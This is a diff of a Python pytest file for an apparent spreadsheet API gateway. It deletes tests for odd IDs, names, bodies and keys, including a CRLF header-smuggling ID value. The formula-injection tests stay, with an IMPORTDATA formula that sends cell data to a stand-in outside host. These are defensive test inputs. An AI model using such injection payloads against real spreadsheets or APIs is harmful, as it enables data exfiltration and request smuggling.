@@ -9,7 +9,7 @@ import json
 from collections import Counter
 from pathlib import Path
 from typing import Any
-from urllib.parse import quote, unquote
+from urllib.parse import quote
 
 import pytest
 
@@ -22,7 +22,6 @@ from tests.journeys.raw import send_raw
 
 TOP = Path(__file__).parents[2]
 ROW = b'{"name":"written"}'
-WRITES = [("POST", "Cities"), ("POST", "Cities/2"), ("PUT", "Cities/2"), ("PATCH", "Cities/2")]
 
 
 def strict(content: bytes) -> Any:
@@ -32,31 +31,6 @@ def strict(content: bytes) -> Any:
         raise ValueError(f"{text} is no JSON")
 
     return json.loads(content, parse_constant=refuse)
-
-
-@pytest.mark.parametrize("spreadsheet", nasty.IDS, ids=lambda text: text[:20])
-def test_an_id_that_leads_elsewhere(shared_api: Api, spreadsheet: str) -> None:
-    """400 in every place, without a call to Google."""
-    encoded = quote(spreadsheet)
-    key = ("Authorization", shared_api.keys["any"])
-    header = ("X-Spreadsheet-Id", spreadsheet.encode("utf-8").decode("latin-1"))
-
-    answers = [
-        send_raw(shared_api, "GET", f"/v2/sheets/Cities?spreadsheetId={encoded}", headers=[key]),
-        send_raw(shared_api, "POST", "/v2/sheets/Cities", headers=[key, header], body=ROW),
-    ]
-
-    assert [refused(answer) for answer in answers] == [(400, 101)] * 2
-    assert shared_api.emulator.stats()["calls"] == {}
-
-
-def test_a_line_break_in_an_id(shared_api: Api) -> None:
-    """It adds no header and no request."""
-    target = "/v2/sheets/Cities?spreadsheetId=demo%0D%0AX-Spreadsheet-Id:%20other"
-    key = [("Authorization", shared_api.keys["two"])]
-
-    assert refused(send_raw(shared_api, "GET", target, headers=key)) == (400, 101)
-    assert shared_api.emulator.stats()["calls"] == {}
 
 
 @pytest.mark.parametrize("method", ["GET", "POST"])
@@ -92,60 +66,6 @@ def test_odd_cells(api: Api) -> None:
     assert strict(ranged.content)["results"] == []  # 5,000 nines are no finite number
 
 
-@cases(nasty.ROWS)
-def test_an_odd_row(shared_api: Api, name: str) -> None:
-    """400 or 404, read or written; the header row and all others stay."""
-    before = shared_api.emulator.everything()
-
-    answers = [
-        send_raw(shared_api, method, f"/v2/sheets/Cities/{name}", body=ROW)
-        for method in ("GET", "POST", "PUT", "PATCH")
-    ]
-
-    assert [refused(answer)[0] for answer in answers] == [nasty.ROWS[name]] * 4
-    assert shared_api.emulator.everything() == before
-
-
-@cases(nasty.NAMES)
-def test_an_odd_worksheet_name(shared_api: Api, name: str) -> None:
-    """The worksheet of exactly that name, or 105 or 400; never another."""
-    answer = send_raw(shared_api, "GET", f"/v2/sheets/{name}")
-
-    if nasty.NAMES[name] is None:
-        assert refused(answer) in ((404, 105), (400, 4003))
-    else:
-        assert [row["name"] for row in answer.json()["results"]] == [nasty.NAMES[name]]
-
-
-@cases(nasty.NAMES)
-def test_a_write_to_an_odd_worksheet_name(shared_api: Api, name: str) -> None:
-    """No other worksheet than that of exactly that name is changed, if there is one."""
-    before = shared_api.emulator.everything()
-
-    answer = send_raw(shared_api, "POST", f"/v2/sheets/{name}", body=ROW)
-    after = shared_api.emulator.everything()
-    changed = [title for title in before if before[title] != after[title]]
-
-    assert changed == ([] if nasty.NAMES[name] is None else [unquote(name)])
-    assert (answer.status_code == 201) == bool(changed)
-    assert after.keys() == before.keys()
-
-
-@cases(nasty.BODIES)
-def test_an_odd_body(shared_api: Api, name: str) -> None:
-    """400 104 with the place; the sheet is unchanged."""
-    before = shared_api.emulator.everything()
-
-    answers = [
-        send_raw(shared_api, method, f"/v2/sheets/{path}", body=nasty.BODIES[name])
-        for method, path in WRITES
-    ]
-
-    assert [refused(answer) for answer in answers] == [(400, 104)] * 4
-    assert all(answer.json()["errors"][0]["pointer"].startswith("#") for answer in answers)
-    assert shared_api.emulator.everything() == before
-
-
 @pytest.mark.parametrize(
     "text", ['=IMPORTDATA("https://x/"&A2)', "\t=1", "+cmd", "@x", "-1+1"], ids=repr
 )
@@ -161,41 +81,6 @@ def test_a_formula_from_outside(open_gateway: OpenGateway, text: str, value_inpu
         cell = api.emulator.cell(title, 2, 1)
         assert answer.json()["name"] == api.get(f"{title}/2").json()["name"] == text
         assert (cell["value"], cell["formula"]) == (text, None)
-
-
-@cases(nasty.KEYS)
-def test_an_odd_key(shared_api: Api, name: str) -> None:
-    """401 or 400, never 500, and no call."""
-    headers, status = nasty.KEYS[name]
-    lines = [
-        (key, value.decode("latin-1") if isinstance(value, bytes) else value)
-        for key, value in headers.items()
-    ]
-
-    answers = [
-        send_raw(shared_api, method, "/v2/sheets/Cities", headers=lines, body=ROW)
-        for method in ("GET", "POST")
-    ]
-
-    assert [refused(answer)[0] for answer in answers] == [status] * 2
-    assert shared_api.emulator.stats()["calls"] == {}
-
-
-@cases(nasty.KEYS_IN_URLS)
-def test_an_odd_key_in_a_url(shared_api: Api, name: str) -> None:
-    """401, 400 or 414, never 500, and no call."""
-    text, status = nasty.KEYS_IN_URLS[name]
-
-    answer = send_raw(shared_api, "GET", f"/v2/sheets/Cities?apiKey={text}", headers=[])
-
-    assert refused(answer)[0] == status
-    assert shared_api.emulator.stats()["calls"] == {}
-
-
-@cases(nasty.QUERIES)
-def test_an_odd_query(shared_api: Api, name: str) -> None:
-    """400, never everything, never 500."""
-    assert refused(shared_api.get("Cities", params=nasty.QUERIES[name])) == (400, 4002)
 
 
 @cases(nasty.ENDLESS)
